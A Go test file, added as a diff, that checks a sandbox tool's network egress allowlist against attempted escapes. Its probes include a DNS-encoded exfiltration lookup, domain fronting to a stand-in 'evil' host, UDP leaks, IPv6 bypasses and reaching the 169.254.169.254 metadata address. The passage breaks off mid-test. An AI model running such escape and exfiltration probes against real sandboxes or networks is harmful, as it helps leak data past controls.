@@ -1,0 +1,1179 @@
+//go:build linux
+
+// End-to-end and adversarial tests of jail's egress allowlist (issue 6), run
+// against the built binary.
+//
+// "Remote" hosts: as root, each test makes its own network namespace with a
+// veth to the host (host 10.77.N.1/30, remote 10.77.N.2/30, fd77:N::2/64)
+// and re-executes this test binary inside it (netFixtureEnv) to serve HTTP
+// (:80, :8080), HTTPS (:443) and a UDP sink (:9999). Unprivileged, where no
+// namespace can be made on the host, the same servers run in the test process
+// on [::]:random, names are pinned to 127.0.0.1 with --add-host and opened
+// with --allow-ip 127.0.0.1/32:PORT (the loopback guard wants the explicit IP
+// rule), and raw-address attacks target the host's own non-loopback address.
+// Every refusal is checked twice: the probe fails inside jail AND jail prints
+// "jail: blocked connect to ..." (so a probe that failed for an unrelated
+// reason does not count), and the same attack is shown to work outside jail.
+package tests
+
+import (
+	"bufio"
+	"context"
+	"crypto/ecdsa"
+	"crypto/elliptic"
+	"crypto/rand"
+	"crypto/tls"
+	"crypto/x509"
+	"crypto/x509/pkix"
+	"fmt"
+	"io"
+	"math/big"
+	"net"
+	"net/http"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"regexp"
+	"sort"
+	"strconv"
+	"strings"
+	"sync"
+	"syscall"
+	"testing"
+	"time"
+)
+
+const netFixtureEnv = "JAIL_NET_FIXTURE_CHILD"
+
+// The remote server process (root mode) is this test binary, re-executed in
+// the fixture's network namespace: it serves until its stdin closes.
+func init() {
+	if os.Getenv(netFixtureEnv) == "" {
+		return
+	}
+	s, err := netServe("[::]:80", "[::]:8080", "[::]:443", "[::]:9999", func(p string) {
+		fmt.Printf("UDP %s\n", p)
+	})
+	if err != nil {
+		fmt.Printf("ERROR %v\n", err)
+		os.Exit(1)
+	}
+	_ = s
+	fmt.Println("READY")
+	io.Copy(io.Discard, os.Stdin)
+	os.Exit(0)
+}
+
+// ---------------------------------------------------------------- servers
+
+const netOK = "JAILNET-OK"
+
+func netHandler(w http.ResponseWriter, r *http.Request) {
+	if r.URL.Path == "/bytes" {
+		n, _ := strconv.ParseInt(r.URL.Query().Get("n"), 10, 64)
+		w.Header().Set("Content-Length", strconv.FormatInt(n, 10))
+		buf := make([]byte, 1<<20)
+		for n > 0 {
+			k := min(n, int64(len(buf)))
+			if _, err := w.Write(buf[:k]); err != nil {
+				return
+			}
+			n -= k
+		}
+		return
+	}
+	fmt.Fprintf(w, "%s host=%s\n", netOK, r.Host)
+}
+
+type netServers struct {
+	http, alt, https, udp int
+	closers               []io.Closer
+}
+
+func (s *netServers) Close() {
+	for _, c := range s.closers {
+		c.Close()
+	}
+}
+
+func netPort(a net.Addr) int {
+	switch a := a.(type) {
+	case *net.TCPAddr:
+		return a.Port
+	case *net.UDPAddr:
+		return a.Port
+	}
+	return 0
+}
+
+func netSelfSigned() (tls.Certificate, error) {
+	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
+	if err != nil {
+		return tls.Certificate{}, err
+	}
+	tmpl := &x509.Certificate{
+		SerialNumber: big.NewInt(1),
+		Subject:      pkix.Name{CommonName: "jailtest.example"},
+		DNSNames:     []string{"jailtest.example", "*.jailtest.example"},
+		NotBefore:    time.Now().Add(-time.Hour),
+		NotAfter:     time.Now().Add(24 * time.Hour),
+	}
+	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
+	if err != nil {
+		return tls.Certificate{}, err
+	}
+	return tls.Certificate{Certificate: [][]byte{der}, PrivateKey: key}, nil
+}
+
+// netServe starts HTTP on httpA and altA, HTTPS on httpsA and a UDP sink on
+// udpA that reports every datagram to onUDP.
+func netServe(httpA, altA, httpsA, udpA string, onUDP func(string)) (*netServers, error) {
+	s := &netServers{}
+	srv := &http.Server{Handler: http.HandlerFunc(netHandler), ReadHeaderTimeout: 10 * time.Second}
+	for i, a := range []string{httpA, altA} {
+		ln, err := net.Listen("tcp", a)
+		if err != nil {
+			s.Close()
+			return nil, err
+		}
+		s.closers = append(s.closers, ln)
+		if i == 0 {
+			s.http = netPort(ln.Addr())
+		} else {
+			s.alt = netPort(ln.Addr())
+		}
+		go srv.Serve(ln)
+	}
+	cert, err := netSelfSigned()
+	if err != nil {
+		s.Close()
+		return nil, err
+	}
+	ln, err := net.Listen("tcp", httpsA)
+	if err != nil {
+		s.Close()
+		return nil, err
+	}
+	s.closers = append(s.closers, ln)
+	s.https = netPort(ln.Addr())
+	tsrv := &http.Server{Handler: http.HandlerFunc(netHandler), ReadHeaderTimeout: 10 * time.Second}
+	go tsrv.Serve(tls.NewListener(ln, &tls.Config{Certificates: []tls.Certificate{cert}}))
+	pc, err := net.ListenPacket("udp", udpA)
+	if err != nil {
+		s.Close()
+		return nil, err
+	}
+	s.closers = append(s.closers, pc)
+	s.udp = netPort(pc.LocalAddr())
+	go func() {
+		buf := make([]byte, 2048)
+		for {
+			n, _, err := pc.ReadFrom(buf)
+			if err != nil {
+				return
+			}
+			onUDP(strings.TrimSpace(string(buf[:n])))
+		}
+	}()
+	return s, nil
+}
+
+// netLocalHTTP serves the test handler on addr in this process.
+func netLocalHTTP(t *testing.T, addr string) int {
+	t.Helper()
+	ln, err := net.Listen("tcp", addr)
+	if err != nil {
+		t.Fatalf("listen %s: %v", addr, err)
+	}
+	srv := &http.Server{Handler: http.HandlerFunc(netHandler)}
+	go srv.Serve(ln)
+	t.Cleanup(func() { srv.Close() })
+	return netPort(ln.Addr())
+}
+
+// netHostAddrs returns the host's first global IPv4 and IPv6 addresses
+// (not loopback, not link-local, not on our fixture veths).
+func netHostAddrs() (v4, v6 string) {
+	ifs, _ := net.Interfaces()
+	for _, i := range ifs {
+		if i.Flags&net.FlagUp == 0 || i.Flags&net.FlagLoopback != 0 || strings.HasPrefix(i.Name, "jnh") {
+			continue
+		}
+		addrs, _ := i.Addrs()
+		for _, a := range addrs {
+			ipn, ok := a.(*net.IPNet)
+			if !ok || !ipn.IP.IsGlobalUnicast() {
+				continue
+			}
+			if ipn.IP.To4() != nil && v4 == "" {
+				v4 = ipn.IP.String()
+			} else if ipn.IP.To4() == nil && v6 == "" {
+				v6 = ipn.IP.String()
+			}
+		}
+	}
+	return v4, v6
+}
+
+// ---------------------------------------------------------------- fixture
+
+type netFix struct {
+	root bool // servers in our own network namespace behind a veth
+
+	ns, hostIf string
+	sub        int // N of 10.77.N.0/30
+
+	remoteIP string // where --add-host pins the test names
+	rawIP    string // a raw IPv4 address of the remote servers, reachable outside jail
+	v6IP     string // an IPv6 address of the remote servers ("" if none)
+
+	http, alt, https, udp int // remote server ports
+
+	hostIP4   string
+	hostLoop  int // HTTP on the host's 127.0.0.1 (--allow-host-port target)
+	hostOther int // another HTTP on the host's 127.0.0.1 that must stay unreachable
+
+	mu   sync.Mutex
+	udpS []string
+}
+
+func (f *netFix) onUDP(p string) {
+	f.mu.Lock()
+	f.udpS = append(f.udpS, p)
+	f.mu.Unlock()
+}
+
+func (f *netFix) udpSeen(tok string) bool {
+	f.mu.Lock()
+	defer f.mu.Unlock()
+	for _, s := range f.udpS {
+		if strings.Contains(s, tok) {
+			return true
+		}
+	}
+	return false
+}
+
+func netIP(t *testing.T, args ...string) {
+	t.Helper()
+	out, err := exec.Command("ip", args...).CombinedOutput()
+	if err != nil {
+		t.Fatalf("ip %s: %v\n%s", strings.Join(args, " "), err, out)
+	}
+}
+
+func netFixture(t *testing.T) *netFix {
+	t.Helper()
+	f := &netFix{root: os.Geteuid() == 0}
+	f.hostIP4, _ = netHostAddrs()
+	f.hostLoop = netLocalHTTP(t, "127.0.0.1:0")
+	f.hostOther = netLocalHTTP(t, "127.0.0.1:0")
+	if f.root {
+		f.setupNetns(t)
+		return f
+	}
+	s, err := netServe("[::]:0", "[::]:0", "[::]:0", "[::]:0", f.onUDP)
+	if err != nil {
+		t.Fatalf("fixture servers: %v", err)
+	}
+	t.Cleanup(s.Close)
+	f.http, f.alt, f.https, f.udp = s.http, s.alt, s.https, s.udp
+	f.remoteIP = "127.0.0.1"
+	f.rawIP = f.hostIP4
+	_, f.v6IP = netHostAddrs()
+	if f.rawIP == "" {
+		t.Fatalf("unprivileged fixture needs a non-loopback IPv4 address on the host for raw-address attacks")
+	}
+	return f
+}
+
+func (f *netFix) setupNetns(t *testing.T) {
+	t.Helper()
+	base := os.Getpid() % 200
+	for i := 0; i < 250; i++ {
+		n := (base+i)%250 + 1
+		name := fmt.Sprintf("jnh%d", n)
+		if err := exec.Command("ip", "link", "add", name, "type", "veth", "peer", "name", fmt.Sprintf("jnr%d", n)).Run(); err == nil {
+			f.sub, f.hostIf = n, name
+			break
+		}
+	}
+	if f.hostIf == "" {
+		t.Fatalf("could not create a fixture veth pair (ip link add jnhN type veth)")
+	}
+	f.ns = fmt.Sprintf("jailnet-%d-%d", os.Getpid(), f.sub)
+	t.Cleanup(func() {
+		exec.Command("ip", "link", "del", f.hostIf).Run()
+		exec.Command("ip", "netns", "del", f.ns).Run()
+	})
+	peer := fmt.Sprintf("jnr%d", f.sub)
+	f.remoteIP = fmt.Sprintf("10.77.%d.2", f.sub)
+	f.rawIP = f.remoteIP
+	f.v6IP = fmt.Sprintf("fd77:%d::2", f.sub)
+	netIP(t, "netns", "add", f.ns)
+	netIP(t, "link", "set", peer, "netns", f.ns)
+	netIP(t, "addr", "add", fmt.Sprintf("10.77.%d.1/30", f.sub), "dev", f.hostIf)
+	netIP(t, "-6", "addr", "add", fmt.Sprintf("fd77:%d::1/64", f.sub), "dev", f.hostIf, "nodad")
+	netIP(t, "link", "set", f.hostIf, "up")
+	netIP(t, "-n", f.ns, "link", "set", "lo", "up")
+	netIP(t, "-n", f.ns, "addr", "add", f.remoteIP+"/30", "dev", peer)
+	netIP(t, "-n", f.ns, "-6", "addr", "add", f.v6IP+"/64", "dev", peer, "nodad")
+	netIP(t, "-n", f.ns, "link", "set", peer, "up")
+	netIP(t, "-n", f.ns, "route", "add", "default", "via", fmt.Sprintf("10.77.%d.1", f.sub))
+
+	exe, err := os.Executable()
+	if err != nil {
+		t.Fatal(err)
+	}
+	cmd := exec.Command("ip", "netns", "exec", f.ns, exe)
+	cmd.Env = append(os.Environ(), netFixtureEnv+"=1")
+	cmd.SysProcAttr = &syscall.SysProcAttr{Pdeathsig: syscall.SIGKILL}
+	stdin, _ := cmd.StdinPipe()
+	stdout, _ := cmd.StdoutPipe()
+	cmd.Stderr = os.Stderr
+	if err := cmd.Start(); err != nil {
+		t.Fatalf("start fixture server: %v", err)
+	}
+	t.Cleanup(func() {
+		stdin.Close()
+		cmd.Process.Kill()
+		cmd.Wait()
+	})
+	ready := make(chan string, 1)
+	go func() {
+		sc := bufio.NewScanner(stdout)
+		for sc.Scan() {
+			l := sc.Text()
+			switch {
+			case strings.HasPrefix(l, "UDP "):
+				f.onUDP(strings.TrimPrefix(l, "UDP "))
+			case l == "READY" || strings.HasPrefix(l, "ERROR"):
+				ready <- l
+			}
+		}
+		close(ready)
+	}()
+	select {
+	case l := <-ready:
+		if l != "READY" {
+			t.Fatalf("fixture server: %q", l)
+		}
+	case <-time.After(15 * time.Second):
+		t.Fatalf("fixture server did not start")
+	}
+	f.http, f.alt, f.https, f.udp = 80, 8080, 443, 9999
+}
+
+// pin returns --add-host flags pinning each name to the remote servers.
+func (f *netFix) pin(names ...string) []string {
+	var fl []string
+	for _, n := range names {
+		fl = append(fl, "--add-host", n+":"+f.remoteIP)
+	}
+	return fl
+}
+
+// pinDenied pins names that must be refused. Unprivileged, a pin to
+// 127.0.0.1 would be allowed by the --allow-ip rule the fixture needs, so the
+// name stays unpinned there and the refusal is proved by jail's stderr line.
+func (f *netFix) pinDenied(names ...string) []string {
+	if !f.root {
+		return nil
+	}
+	return f.pin(names...)
+}
+
+// ipFlags opens the remote ports by IP where the remote is the host's own
+// loopback (unprivileged mode); as root the remote is a real address and
+// needs none.
+func (f *netFix) ipFlags(ports ...int) []string {
+	if f.root {
+		return nil
+	}
+	var fl []string
+	for _, p := range ports {
+		fl = append(fl, "--allow-ip", fmt.Sprintf("127.0.0.1/32:%d", p))
+	}
+	return fl
+}
+
+func netFlags(parts ...[]string) []string {
+	var out []string
+	for _, p := range parts {
+		out = append(out, p...)
+	}
+	return out
+}
+
+// ---------------------------------------------------------------- probes
+
+type netProbe struct{ label, cmd string }
+
+// curl without any proxy (the environment inside has none, --noproxy makes
+// sure), succeeding only when the fixture's handler answered.
+func netCurl(label, url string, extra ...string) netProbe {
+	return netProbe{label, fmt.Sprintf("/usr/bin/curl -sS -k --noproxy '*' --connect-timeout 5 --max-time 10 %s '%s' | grep -q %s",
+		strings.Join(extra, " "), url, netOK)}
+}
+
+func netHostCurl(t *testing.T, url string, extra ...string) bool {
+	t.Helper()
+	args := append([]string{"-sS", "-k", "--noproxy", "*", "--max-time", "10"}, extra...)
+	out, err := exec.Command("/usr/bin/curl", append(args, url)...).CombinedOutput()
+	return err == nil && strings.Contains(string(out), netOK)
+}
+
+const netPyUDP = `import socket,sys
+for i in range(5):
+    try:
+        s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)
+        s.sendto(sys.argv[3].encode(),(sys.argv[1],int(sys.argv[2])))
+    except OSError as e:
+        print(e)
+`
+
+const netPyTCP6 = `import socket,sys
+s=socket.socket(socket.AF_INET6,socket.SOCK_STREAM)
+s.settimeout(4)
+s.connect((sys.argv[1],int(sys.argv[2])))
+s.sendall(b"GET / HTTP/1.0\r\nHost: x\r\n\r\n")
+d=b""
+while True:
+    c=s.recv(4096)
+    if not c: break
+    d+=c
+sys.exit(0 if b"JAILNET-OK" in d else 1)
+`
+
+const netPyConc = `import socket,sys
+host,port,n=sys.argv[1],int(sys.argv[2]),int(sys.argv[3])
+ss=[socket.create_connection((host,port),timeout=30) for i in range(n)]
+for s in ss:
+    s.sendall(b"GET / HTTP/1.1\r\nHost: %s:%d\r\nConnection: close\r\n\r\n"%(host.encode(),port))
+ok=0
+for s in ss:
+    d=b""
+    while True:
+        c=s.recv(65536)
+        if not c: break
+        d+=c
+    ok+=b"JAILNET-OK" in d
+    s.close()
+print("ok",ok,"of",n)
+sys.exit(0 if ok==n else 1)
+`
+
+const netPyLatency = `import socket,sys,time
+host,addr,port,n=sys.argv[1],sys.argv[2],int(sys.argv[3]),int(sys.argv[4])
+def pct(v):
+    v.sort(); return v[len(v)//2]*1000, v[min(len(v)-1,int(len(v)*0.99))]*1000
+dns=[]
+for i in range(min(n,100)):
+    t0=time.perf_counter(); socket.gethostbyname(host); dns.append(time.perf_counter()-t0)
+if addr=="-": addr=socket.gethostbyname(host)
+ts=[]
+for i in range(n):
+    t0=time.perf_counter()
+    s=socket.create_connection((addr,port))
+    s.sendall(b"GET / HTTP/1.0\r\nHost: %s:%d\r\n\r\n"%(host.encode(),port))
+    while s.recv(65536): pass
+    s.close()
+    ts.append(time.perf_counter()-t0)
+print("RESULT %.3f %.3f %.3f %.3f"%(pct(ts)+pct(dns)))
+`
+
+func netPy(label, prog string, args ...string) netProbe {
+	return netProbe{label, fmt.Sprintf("/usr/bin/python3 -c '%s' %s", prog, strings.Join(args, " "))}
+}
+
+type netRes struct {
+	result
+	rc  map[string]int
+	out map[string]string
+}
+
+var netProbeLine = regexp.MustCompile(`^@@(\S+) (\d+)$`)
+
+// netRun runs every probe in one sandbox and collects each exit status.
+func netRun(t *testing.T, flags []string, probes ...netProbe) netRes {
+	t.Helper()
+	var sc strings.Builder
+	for _, p := range probes {
+		fmt.Fprintf(&sc, "out=$( { %s ; } 2>&1 ); rc=$?; echo \"@@%s $rc\"; printf '%%s\\n' \"$out\" | head -n 5 | sed 's/^/  | /'\n", p.cmd, p.label)
+	}
+	r := sh(t, runOpts{timeout: 90 * time.Second}, sc.String(), flags...)
+	res := netRes{result: r, rc: map[string]int{}, out: map[string]string{}}
+	failed := t.Failed()
+	t.Cleanup(func() {
+		if t.Failed() && !failed {
+			t.Logf("sandbox run with flags %q:\n%s", flags, res.dump())
+		}
+	})
+	var cur string
+	for _, l := range strings.Split(r.stdout, "\n") {
+		if m := netProbeLine.FindStringSubmatch(l); m != nil {
+			cur = m[1]
+			res.rc[cur], _ = strconv.Atoi(m[2])
+		} else if cur != "" && strings.HasPrefix(l, "  | ") {
+			res.out[cur] += strings.TrimPrefix(l, "  | ") + "\n"
+		}
+	}
+	return res
+}
+
+func (r netRes) dump() string {
+	return fmt.Sprintf("jail exit %d\nstdout:\n%s\nstderr:\n%s", r.code, r.stdout, r.stderr)
+}
+
+// ok asserts the probe succeeded inside.
+func (r netRes) ok(t *testing.T, label string) {
+	t.Helper()
+	rc, seen := r.rc[label]
+	if !seen {
+		t.Fatalf("probe %s did not run", label)
+	}
+	if rc != 0 {
+		t.Errorf("probe %s: want success inside jail, got exit %d: %s", label, rc, strings.TrimSpace(r.out[label]))
+	}
+}
+
+// refused asserts the probe failed inside jail and, when blocked is not
+// empty, that jail said "jail: blocked connect to <blocked>".
+func (r netRes) refused(t *testing.T, label, blocked string) {
+	t.Helper()
+	rc, seen := r.rc[label]
+	if !seen {
+		t.Fatalf("probe %s did not run", label)
+	}
+	if rc == 0 {
+		t.Errorf("ATTACK WORKED: probe %s succeeded inside jail", label)
+		return
+	}
+	if blocked != "" && !strings.Contains(r.stderr, "jail: blocked connect to "+blocked) {
+		t.Errorf("probe %s failed (%s) but jail did not report \"jail: blocked connect to %s\" on stderr", label, strings.TrimSpace(r.out[label]), blocked)
+	}
+}
+
+// control asserts that an attack works outside jail, so its refusal inside
+// proves something.
+func netControl(t *testing.T, what string, ok bool) {
+	t.Helper()
+	if !ok {
+		t.Fatalf("control failed: %s does not work even outside jail; the fixture is broken", what)
+	}
+}
+
+func netURL(host string, port int, path string) string {
+	if strings.Contains(host, ":") {
+		host = "[" + host + "]"
+	}
+	return fmt.Sprintf("http://%s:%d%s", host, port, path)
+}
+
+func netURLs(host string, port int) string {
+	return fmt.Sprintf("https://%s:%d/", host, port)
+}
+
+const (
+	netAPI  = "api.jailtest.example"
+	netEvil = "evil.jailtest.example"
+)
+
+// ---------------------------------------------------------------- tests
+
+// Default --net none: only lo, no route, nothing reachable, no DNS.
+func TestNetDefaultNone(t *testing.T) {
+	f := netFixture(t)
+	netControl(t, "raw connect to "+f.rawIP, netHostCurl(t, netURL(f.rawIP, f.http, "/")))
+	r := netRun(t, nil,
+		netProbe{"ifaces", `[ "$(tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' ' | sort | tr '\n' ,)" = "lo," ]`},
+		netProbe{"no-route4", `[ -z "$(ip -4 route show table all 2>/dev/null | grep -v '^local\|^broadcast\|^127\.')" ]`},
+		netProbe{"no-default6", `! ip -6 route show table all 2>/dev/null | grep -q default`},
+		netCurl("raw", netURL(f.rawIP, f.http, "/")),
+		netProbe{"dns", "getent hosts " + netAPI},
+	)
+	mustCode(t, r.result, 0)
+	r.ok(t, "ifaces")
+	r.ok(t, "no-route4")
+	r.ok(t, "no-default6")
+	r.refused(t, "raw", "")
+	r.refused(t, "dns", "")
+}
+
+// The allowed name works for a program that ignores proxy variables; its DNS
+// answer is a fake address; other names are NXDOMAIN; raw addresses, fake
+// addresses jail never handed out, the gateway itself, and other ports are
+// refused with a line on stderr.
+func TestNetAllowedNameAndRefusals(t *testing.T) {
+	f := netFixture(t)
+	netControl(t, "raw connect to "+f.rawIP, netHostCurl(t, netURL(f.rawIP, f.http, "/")))
+	netControl(t, "alt port", netHostCurl(t, netURL(f.rawIP, f.alt, "/")))
+	flags := netFlags([]string{"--allow-domain", fmt.Sprintf("%s:%d", netAPI, f.http), "--allow-domain", fmt.Sprintf("%s:%d", netAPI, f.https)},
+		f.pin(netAPI), f.ipFlags(f.http, f.https))
+	r := netRun(t, flags,
+		netProbe{"noproxyenv", `! env | grep -qi '_proxy='`},
+		netCurl("http", netURL(netAPI, f.http, "/")),
+		netCurl("https", netURLs(netAPI, f.https)),
+		netProbe{"fakeip", `getent hosts ` + netAPI + ` | grep -Eq '^198\.(18|19)\.'`},
+		netProbe{"nx", `getent hosts other.jailtest.example; [ $? -eq 2 ]`},
+		netProbe{"nx-exfil", `getent hosts c2VjcmV0.exfil.jailtest.example; [ $? -eq 2 ]`},
+		netCurl("raw", netURL(f.rawIP, f.http, "/")),
+		netCurl("wrongport", netURL(netAPI, f.alt, "/")),
+		netCurl("unissued-fake", netURL("198.18.200.77", f.http, "/")),
+		netProbe{"gateway", `gw=$(ip -4 route show default | awk '{print $3; exit}'); [ -n "$gw" ] && /usr/bin/curl -sS --noproxy '*' --max-time 5 http://$gw:` + strconv.Itoa(f.hostLoop) + `/ | grep -q ` + netOK},
+		netProbe{"reconfigure", `ip addr add 10.99.0.9/32 dev lo`},
+	)
+	mustCode(t, r.result, 0)
+	r.ok(t, "noproxyenv")
+	r.ok(t, "http")
+	r.ok(t, "https")
+	r.ok(t, "fakeip")
+	r.ok(t, "nx")
+	r.ok(t, "nx-exfil")
+	r.refused(t, "raw", fmt.Sprintf("%s:%d", f.rawIP, f.http))
+	r.refused(t, "wrongport", fmt.Sprintf("%s:%d", netAPI, f.alt))
+	r.refused(t, "unissued-fake", "198.18.200.77")
+	r.refused(t, "gateway", "")
+	r.refused(t, "reconfigure", "")
+}
+
+// *.example matches subdomains, not the apex; a bare name matches only
+// itself; --deny-domain wins over a broader allow (whole name and per port).
+func TestNetWildcardApexDeny(t *testing.T) {
+	f := netFixture(t)
+	wild := "wild.jailtest.example"
+	sub, deep := "a."+wild, "b.c."+wild
+	// Pinning the apex makes it resolvable (jail answers pinned names so the
+	// flow fails with a clear line), so the refusal happens at connect time.
+	// Unprivileged, a pin to 127.0.0.1 plus --allow-ip would allow the apex by
+	// IP, so the apex stays unpinned there and must be NXDOMAIN.
+	pins := []string{sub, deep}
+	if f.root {
+		pins = append(pins, wild)
+	}
+	r := netRun(t, netFlags([]string{"--allow-domain", "*." + wild}, f.pin(pins...), f.ipFlags(f.http)),
+		netCurl("sub", netURL(sub, f.http, "/")),
+		netCurl("deep", netURL(deep, f.http, "/")),
+		netCurl("apex", netURL(wild, f.http, "/")),
+		netProbe{"apex-nx-unpinned", `getent hosts x` + wild + `; [ $? -eq 2 ]`},
+	)
+	mustCode(t, r.result, 0)
+	r.ok(t, "sub")
+	r.ok(t, "deep")
+	r.ok(t, "apex-nx-unpinned")
+	if f.root {
+		r.refused(t, "apex", fmt.Sprintf("%s:%d", wild, f.http))
+	} else {
+		r.refused(t, "apex", "")
+	}
+
+	// Apex only: subdomains are not included.
+	r = netRun(t, netFlags([]string{"--allow-domain", wild}, f.pin(wild), f.ipFlags(f.http)),
+		netCurl("apex", netURL(wild, f.http, "/")),
+		netProbe{"sub-nx", `getent hosts ` + sub + `; [ $? -eq 2 ]`},
+	)
+	mustCode(t, r.result, 0)
+	r.ok(t, "apex")
+	r.ok(t, "sub-nx")
+
+	// Deny wins: a denied name is NXDOMAIN even though pinned and covered by
+	// the wildcard; a port-specific deny refuses that port at connect time.
+	bad := "bad.jailtest.example"
+	r = netRun(t, netFlags([]string{"--allow-domain", "*.jailtest.example", "--deny-domain", bad,
+		"--deny-domain", fmt.Sprintf("%s:%d", netAPI, f.alt)}, f.pin(netAPI, bad), f.ipFlags(f.http, f.alt)),
+		netCurl("good", netURL(netAPI, f.http, "/")),
+		netCurl("denied-name", netURL(bad, f.http, "/")),
+		netProbe{"denied-nx", `getent hosts ` + bad + `; [ $? -eq 2 ]`},
+		netCurl("denied-port", netURL(netAPI, f.alt, "/")),
+	)
+	mustCode(t, r.result, 0)
+	r.ok(t, "good")
+	r.refused(t, "denied-name", "")
+	r.ok(t, "denied-nx")
+	r.refused(t, "denied-port", fmt.Sprintf("%s:%d", netAPI, f.alt))
+}
+
+// Domain fronting: a TLS ClientHello whose SNI names a non-allowed host, or an
+// HTTP request whose Host does, sent to an allowed name's address, is refused.
+func TestNetSNIAndHostMismatch(t *testing.T) {
+	f := netFixture(t)
+	front := fmt.Sprintf("--connect-to %s:%d:%s:%d", netEvil, f.https, f.remoteIP, f.https)
+	netControl(t, "TLS with SNI "+netEvil, netHostCurl(t, netURLs(netEvil, f.https), strings.Fields(front)...))
+	netControl(t, "HTTP with Host "+netEvil, netHostCurl(t, netURL(f.rawIP, f.http, "/"), "-H", "Host: "+netEvil))
+	flags := netFlags([]string{"--allow-domain", netAPI}, f.pin(netAPI), f.ipFlags(f.http, f.https))
+	r := netRun(t, flags,
+		netCurl("tls-ok", netURLs(netAPI, f.https)),
+		netCurl("tls-front", netURLs(netEvil, f.https), fmt.Sprintf("--connect-to %s:%d:%s:%d", netEvil, f.https, netAPI, f.https)),
+		netProbe{"tls-front-openssl", fmt.Sprintf(`printf 'GET / HTTP/1.0\r\n\r\n' | timeout 10 openssl s_client -quiet -connect %s:%d -servername %s 2>/dev/null | grep -q %s`, netAPI, f.https, netEvil, netOK)},
+		netCurl("http-ok", netURL(netAPI, f.http, "/")),
+		netCurl("http-front", netURL(netAPI, f.http, "/"), "-H", "'Host: "+netEvil+"'"),
+	)
+	mustCode(t, r.result, 0)
+	r.ok(t, "tls-ok")
+	r.ok(t, "http-ok")
+	r.refused(t, "tls-front", netAPI)
+	r.refused(t, "tls-front-openssl", netAPI)
+	r.refused(t, "http-front", netAPI)
+}
+
+// UDP other than DNS never leaves: neither to a raw address nor to an
+// allowed name's (fake) address.
+func TestNetUDPNeverArrives(t *testing.T) {
+	f := netFixture(t)
+	ctl := "ctl-" + marker()
+	out, err := exec.Command("/usr/bin/python3", "-c", netPyUDP, f.rawIP, strconv.Itoa(f.udp), ctl).CombinedOutput()
+	if err != nil {
+		t.Fatalf("control UDP send: %v %s", err, out)
+	}
+	deadline := time.Now().Add(5 * time.Second)
+	for !f.udpSeen(ctl) && time.Now().Before(deadline) {
+		time.Sleep(20 * time.Millisecond)
+	}
+	netControl(t, "UDP datagram to "+f.rawIP, f.udpSeen(ctl))
+
+	raw, byName := "raw-"+marker(), "name-"+marker()
+	r := netRun(t, netFlags([]string{"--allow-domain", netAPI}, f.pin(netAPI), f.ipFlags(f.http)),
+		netPy("udp-raw", netPyUDP, f.rawIP, strconv.Itoa(f.udp), raw),
+		netPy("udp-name", netPyUDP, netAPI, strconv.Itoa(f.udp), byName),
+		netCurl("tcp-after", netURL(netAPI, f.http, "/")),
+	)
+	mustCode(t, r.result, 0)
+	r.ok(t, "tcp-after") // the sandbox's network worked while the datagrams were sent
+	// Datagrams would have arrived long before the TCP probe finished and
+	// jail exited; give stragglers a short grace anyway.
+	deadline = time.Now().Add(500 * time.Millisecond)
+	for time.Now().Before(deadline) {
+		if f.udpSeen(raw) || f.udpSeen(byName) {
+			break
+		}
+		time.Sleep(20 * time.Millisecond)
+	}
+	if f.udpSeen(raw) {
+		t.Errorf("ATTACK WORKED: UDP datagram to %s:%d left the sandbox", f.rawIP, f.udp)
+	}
+	if f.udpSeen(byName) {
+		t.Errorf("ATTACK WORKED: UDP datagram to %s:%d left the sandbox", netAPI, f.udp)
+	}
+}
+
+// IPv6 is refused: no route, AAAA empty, a connect to a real IPv6 address of
+// the remote fails.
+func TestNetIPv6Refused(t *testing.T) {
+	f := netFixture(t)
+	probes := []netProbe{
+		netProbe{"no-default6", `! ip -6 route show table all 2>/dev/null | grep -q default`},
+		netProbe{"no-aaaa", `/usr/bin/python3 -c 'import socket; socket.getaddrinfo("` + netAPI + `", 80, socket.AF_INET6)' 2>/dev/null; [ $? -ne 0 ]`},
+		netCurl("curl6-name", netURL(netAPI, f.http, "/"), "-6"),
+		netCurl("v4-ok", netURL(netAPI, f.http, "/")), // the network works, only IPv6 does not
+	}
+	if f.v6IP != "" {
+		out, err := exec.Command("/usr/bin/python3", "-c", netPyTCP6, f.v6IP, strconv.Itoa(f.http)).CombinedOutput()
+		netControl(t, fmt.Sprintf("IPv6 connect to [%s]:%d (%v %s)", f.v6IP, f.http, err, out), err == nil)
+		probes = append(probes, netPy("tcp6-raw", netPyTCP6, f.v6IP, strconv.Itoa(f.http)))
+	} else {
+		t.Logf("host has no global IPv6 address: only route and AAAA checks")
+	}
+	r := netRun(t, netFlags([]string{"--allow-domain", netAPI}, f.pin(netAPI), f.ipFlags(f.http)), probes...)
+	mustCode(t, r.result, 0)
+	r.ok(t, "v4-ok")
+	r.ok(t, "no-default6")
+	r.ok(t, "no-aaaa")
+	r.refused(t, "curl6-name", "")
+	if f.v6IP != "" {
+		r.refused(t, "tcp6-raw", "")
+	}
+}
+
+// Loopback, host-own-address and metadata guard: an allowed name pinned to
+// 127.0.0.1, to the host's own address or to 169.254.169.254 is refused
+// unless --allow-ip names that address and port.
+func TestNetLoopbackAndMetadataGuard(t *testing.T) {
+	f := netFixture(t)
+	loop, own, meta := "loop.jailtest.example", "own.jailtest.example", "meta.jailtest.example"
+	netControl(t, "host loopback server", netHostCurl(t, netURL("127.0.0.1", f.hostLoop, "/")))
+	ownPort := netLocalHTTP(t, "0.0.0.0:0")
+	netControl(t, "host own address", netHostCurl(t, netURL(f.hostIP4, ownPort, "/")))
+	if f.root {
+		// A fake metadata service behind our veth: 169.254.169.254 on the
+		// remote's lo, routed from the host through the fixture veth.
+		netIP(t, "-n", f.ns, "addr", "add", "169.254.169.254/32", "dev", "lo")
+		netIP(t, "route", "add", "169.254.169.254/32", "via", f.remoteIP, "dev", f.hostIf)
+		t.Cleanup(func() { exec.Command("ip", "route", "del", "169.254.169.254/32", "dev", f.hostIf).Run() })
+		netControl(t, "metadata address", netHostCurl(t, netURL("169.254.169.254", f.http, "/")))
+	}
+	base := []string{"--allow-domain", loop, "--allow-domain", own, "--allow-domain", meta,
+		"--add-host", loop + ":127.0.0.1", "--add-host", own + ":" + f.hostIP4, "--add-host", meta + ":169.254.169.254"}
+	probes := []netProbe{
+		netCurl("loop", netURL(loop, f.hostLoop, "/")),
+		netCurl("own", netURL(own, ownPort, "/")),
